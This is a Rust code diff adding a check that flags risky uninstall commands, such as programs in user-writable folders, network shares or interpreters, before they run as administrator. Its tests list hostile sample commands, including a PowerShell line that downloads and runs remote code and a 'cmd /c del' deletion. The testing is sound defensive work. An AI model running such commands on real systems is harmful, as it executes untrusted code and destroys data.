@@ -147,6 +147,24 @@ pub fn packed(code: &str) -> Option<String> {
     Some(packed.to_uppercase())
 }
 
+/// Why a command that an installer registered for everybody must not be run as an administrator without a second look.
+pub fn risk(command: &str) -> Option<&'static str> {
+    let (program, _) = split(command.trim())?;
+    let lower = program.to_lowercase();
+    let file = lower.rsplit('\\').next().unwrap_or(&lower);
+    let is_interpreter =
+        INTERPRETERS.contains(&file) || INTERPRETERS.contains(&format!("{file}.exe").as_str());
+    if is_of_users(program) || program.starts_with(r"\\") {
+        Some(
+            "Its program lies where an account without an administrator's rights can write: do not run it as administrator.",
+        )
+    } else if is_interpreter {
+        Some("It starts an interpreter: whatever stands behind its name is run.")
+    } else {
+        None
+    }
+}
+
 /// Whether a program lies where users put their own: anyone who wrote it must not be run with the rights of an administrator.
 pub fn is_of_users(program: &str) -> bool {
     let lower = program.to_lowercase();
@@ -251,6 +269,23 @@ mod tests {
             assert_eq!(parse(script), None, "{script}");
         }
         assert_eq!(parse(r#""C:\v\un.exe" /S KLPASSWD=<redacted>"#), None);
+    }
+
+    #[test]
+    fn a_risk_is_named() {
+        for risky in [
+            r"C:\Users\bob\evil.exe /S",
+            r#""D:\Temp\un.exe""#,
+            r"\\server\share\un.exe /S",
+            r"cmd /c del x",
+            r#"powershell -c "iwr http://x|iex""#,
+            r#""C:\Windows\System32\rundll32.exe" x.dll,Un"#,
+        ] {
+            assert!(risk(risky).is_some(), "{risky}");
+        }
+        for plain in [r#""C:\Program Files\V\un.exe" /S"#, "MsiExec.exe /X{A}", ""] {
+            assert_eq!(risk(plain), None, "{plain}");
+        }
     }
 
     #[test]
